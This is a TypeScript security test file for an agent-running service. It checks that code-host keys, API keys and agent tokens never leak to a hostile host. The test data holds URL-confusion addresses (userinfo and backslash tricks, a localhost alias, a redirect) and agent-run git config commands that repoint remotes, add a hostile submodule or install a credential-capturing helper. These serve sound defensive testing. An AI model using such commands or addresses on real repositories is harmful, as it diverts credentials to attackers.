// Every way in which members, keys with `runs:write` and agents can name an address, with every kind of address: what
// arrives at a host of theirs has none of the secrets that the service or the runner holds.
import { existsSync, mkdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { agentTokenPrefix } from "../../convex/callers/agentTokens";
import { scopesOfAreas } from "../../convex/callers/scopes";
import { deploymentOn } from "../support/engineDeployment";
import {
  callbackSecret,
  client,
  createKey,
  createProject,
  createWorkflow,
  dataOf,
  encryptionKey,
} from "../support/fixtures";
import type { Client } from "../support/fixtures";
import { startCodeHost } from "./fakeCodeHost";
import type { FakeCodeHost } from "./fakeCodeHost";
import { startRecordingHost } from "./recordingHost";
import type { RecordingHost } from "./recordingHost";
import { ended, makeWorld, runnerIn, startSteps } from "./fixture";
import type { TestRunner, World } from "./fixture";

const projectKey = "github_pat_of_the_project_0123456789";
const platformKey = "github_pat_of_the_platform_0123456789";
const others = {
  anthropic: "sk-ant-secret-0123456789",
  backendDeployKey: "deploy-key-secret-0123456789",
  backendDevKey: "dev-key-secret-0123456789",
  testUser: "test-user-secret-0123456789",
  callback: callbackSecret,
};
/** The tokens of agents of runs begin with it. Each run at an address has one. */
const secrets = [projectKey, platformKey, ...Object.values(others), agentTokenPrefix];

let world: World;
let runner: TestRunner;
let trusted: RecordingHost;
let hostile: RecordingHost;
/** Ends the work that a test has begun: all of it fails, and would be tried again during the next test. */
let removeProject: () => Promise<unknown> = async () => undefined;

beforeAll(async () => {
  world = await makeWorld();
  const home = path.join(world.folder, "home");
  mkdirSync(home);
  // The person who runs this test may have a login of their own.
  vi.stubEnv("HOME", home);
  await deploymentOn(() => world.engine).setEnvironment({
    PROVIDER_KEY_ENCRYPTION_KEY: encryptionKey,
    PLATFORM_KEY_CODE_HOST: platformKey,
    SERVICE_KEYS_OVER_HTTP: "on",
  });
  runner = runnerIn(world, { jobs: 8 });
}, 60_000);
beforeEach(async () => {
  [trusted, hostile] = [await startRecordingHost(), await startRecordingHost()];
  // A repository that its host has moved away.
  trusted.answer = (request, response) => {
    if (request.url?.includes("moved") !== true) return false;
    response.writeHead(302, { Location: `${hostile.url}${request.url}` }).end();
    return true;
  };
  await deploymentOn(() => world.engine).setEnvironment({ PLATFORM_CODE_HOST_ORIGINS: trusted.url });
});
afterEach(async () => {
  await removeProject();
  for (const host of [trusted, hostile]) host?.close();
});
afterAll(async () => {
  await runner?.stop();
  await world?.end();
  vi.unstubAllEnvs();
});

/** Makes a project with secrets, and a client that may do everything in it but what admins may. */
async function projectWithSecrets(key: string | null, origins: string[]): Promise<Client> {
  const deployment = deploymentOn(() => world.engine);
  const { projectId, apiKey } = await createProject(deployment);
  const admin = client(deployment, apiKey);
  removeProject = async () => await admin.post("/project/delete");
  const set = (body: object) => dataOf(admin.post("/project/provider-keys/set", body));
  if (key !== null) await set({ provider: "code_host", key, origins });
  await set({ provider: "anthropic", key: others.anthropic });
  const { backendDeployKey, backendDevKey, testUser } = others;
  const testUserCredentials = { password: testUser };
  await dataOf(admin.post("/project/settings/update", { backendDeployKey, backendDevKey, testUserCredentials }));
  return client(deployment, (await createKey(deployment, projectId, [...scopesOfAreas])).apiKey);
}

/** Each starts one job at an address that its caller chooses. */
const choosers: Record<string, (api: Client, address: string) => Promise<void>> = {
  "a run": async (api, gitRepoUrl) => {
    await dataOf(api.post("/runs/start", { workflowId: await createWorkflow(api), prompt: "Go.", gitRepoUrl }));
  },
  "a run at the project's address": async (api, gitRepoUrl) => {
    await dataOf(api.post("/project/update", { gitRepoUrl }));
    await dataOf(api.post("/runs/start", { workflowId: await createWorkflow(api), prompt: "Go." }));
  },
  "a sprint chain": async (api, gitRepoUrl) => {
    const workflowId = await createWorkflow(api);
    await dataOf(api.post("/sprint-chains", { workflowId, sprintRange: [1, 1], prompt: "Go.", gitRepoUrl }));
  },
  "a work chain": async (api, gitRepoUrl) => {
    const { id } = await dataOf(api.post("/issues/create", { title: "First" }));
    const workflowId = await createWorkflow(api);
    const chain = { title: "Both", issueIds: [id], workflowId, gitRepoUrl, branchName: "main" };
    await dataOf(
      api.post("/work-chains/start", { chainId: (await dataOf(api.post("/work-chains/create", chain))).id }),
    );
  },
  "an issue session": async (api, gitRepoUrl) => {
    await dataOf(api.post("/project/update", { gitRepoUrl }));
    await dataOf(api.post("/issue-sessions/start", { prompt: "Look." }));
  },
  "a merge run": async (api, gitRepoUrl) => {
    await dataOf(api.post("/project/update", { gitRepoUrl }));
    const pullRequests = [{ prUrl: `${hostile.url}/acme/shop/pull/7`, prNumber: 7 }];
    await dataOf(api.post("/merging/start", { pullRequests, baseBranch: "main" }));
  },
  "pull requests elsewhere": async (api) => {
    await dataOf(api.post("/project/update", { gitRepoUrl: `${trusted.url}/acme/shop.git` }));
    const pullRequests = [{ prUrl: `${hostile.url}/acme/shop/pull/7`, prNumber: 7 }];
    await dataOf(api.post("/merging/start", { pullRequests, baseBranch: "main" }));
  },
};

const hostOf = ({ url }: RecordingHost) => url.replace("http://", "");
const addresses: Record<string, () => string> = {
  "the trusted host": () => `${trusted.url}/acme/shop.git`,
  "another host": () => `${hostile.url}/acme/shop.git`,
  "the trusted host as a user": () => `http://${hostOf(trusted).replace(":", "%3a")}@${hostOf(hostile)}/acme/shop.git`,
  "the trusted host and its port as a login": () => `http://${hostOf(trusted)}@${hostOf(hostile)}/acme/shop.git`,
  "the trusted host before a backslash": () => String.raw`${trusted.url}\@${hostOf(hostile)}/acme/shop.git`,
  "another name of the trusted machine": () => `${trusted.url.replace("127.0.0.1", "localhost")}/acme/shop.git`,
  "a place from which the trusted host redirects": () => `${trusted.url}/acme/moved.git`,
};

/** The distinct jobs that have ended, also those that will be tried again. */
const endedJobs = () => new Set(runner.events.flatMap((event) => (event.kind === "ended" ? [event.jobId] : [])));

/** Waits until the job that somebody starts has ended once. */
async function oneJob(start: () => Promise<unknown>): Promise<void> {
  const before = endedJobs().size;
  await start();
  await expect.poll(() => endedJobs().size, { timeout: 20_000 }).toBeGreaterThan(before);
}

const found = (texts: readonly string[], searched: readonly string[]) =>
  searched.filter((secret) => texts.some((text) => text.includes(secret)));

/** Starts work of every kind at every address, one address after the other. */
async function chooseAll(api: Client): Promise<void> {
  for (const address of Object.values(addresses)) {
    for (const choose of Object.values(choosers)) {
      await oneJob(() => choose(api, address()));
    }
  }
}

describe.each([
  ["A project's key", projectKey, platformKey],
  ["The platform's key, where the project has none", platformKey, projectKey],
])("%s", (_name, own, other) => {
  it("arrives at its own host alone, no matter who chooses the address", async () => {
    const api = await projectWithSecrets(own === projectKey ? projectKey : null, [trusted.url]);
    await chooseAll(api);
    // Each hostile address was asked, so there was something to lose.
    expect(hostile.requests.length).toBeGreaterThan(10);
    expect(hostile.requests.join("\n")).toContain("moved.git/info/refs");
    expect(found(hostile.requests, secrets)).toEqual([]);
    expect(found(trusted.requests, [own])).toEqual([own]);
    expect(found(trusted.requests, [other, ...Object.values(others), agentTokenPrefix])).toEqual([]);
    const byAnotherName = trusted.requests.filter((request) => request.includes("localhost"));
    expect([byAnotherName.length > 0, found(byAnotherName, secrets)]).toEqual([true, []]);
  }, 180_000);
});

it("A key that is for https does not arrive over http, though the operator lets others", async () => {
  const api = await projectWithSecrets(projectKey, [trusted.url.replace("http:", "https:")]);
  await chooseAll(api);
  expect(trusted.requests.length).toBeGreaterThan(10);
  expect(found([...trusted.requests, ...hostile.requests], secrets)).toEqual([]);
}, 180_000);

describe("An agent that works with the trusted host", () => {
  let host: FakeCodeHost;
  beforeAll(async () => {
    host = await startCodeHost(world.origin, projectKey);
    const providerKey = { provider: "code_host", key: projectKey, origins: [host.url] };
    await dataOf(world.api.post("/project/provider-keys/set", providerKey));
    await dataOf(world.api.post("/project/update", { gitRepoUrl: host.repository }));
  });
  afterAll(() => host?.close());

  it.each([
    ["another address for pushes", () => `git config remote.origin.pushurl ${hostile.url}/acme/agent.git`],
    ["another address", () => `git config remote.origin.url ${hostile.url}/acme/agent.git`],
    ["another host in its place", () => `git config url.${hostile.url}/.insteadOf ${host.url}/`],
    [
      "a submodule elsewhere",
      () =>
        String.raw`printf '[submodule "a"]\n\tpath = a\n\turl = ${hostile.url}/acme/agent.git\n' > .gitmodules; mkdir -p a`,
    ],
    [
      "its own helper for credentials",
      () => `git config credential.helper '!sh -c "cat >> ${world.folder}/agents-helper"'`,
    ],
  ])(
    "and sets %s learns no key",
    async (name, script) => {
      // Another user in the address makes another mirror, so that the settings of one case are not those of the next.
      const origin = host.repository.replace("//", `//${name.replaceAll(" ", "-")}@`);
      const instructions = `${script()}; echo made > made.txt; echo worked`;
      // Jobs of the runs before may end meanwhile, such as looks at their requests.
      await ended(world, await startSteps({ ...world, origin }, { instructions }));
      const task = runner.agent.tasks.at(-1);
      expect(task?.env["SWITCHYARD_INSTRUCTIONS"]).toContain(script());
      expect(task?.mcp?.token).toContain(agentTokenPrefix);
      expect(found(hostile.requests, secrets)).toEqual([]);
      expect(found([readIfThere(path.join(world.folder, "agents-helper"))], secrets)).toEqual([]);
    },
    60_000,
  );
});

function readIfThere(file: string): string {
  return existsSync(file) ? readFileSync(file, "utf8") : "";
}
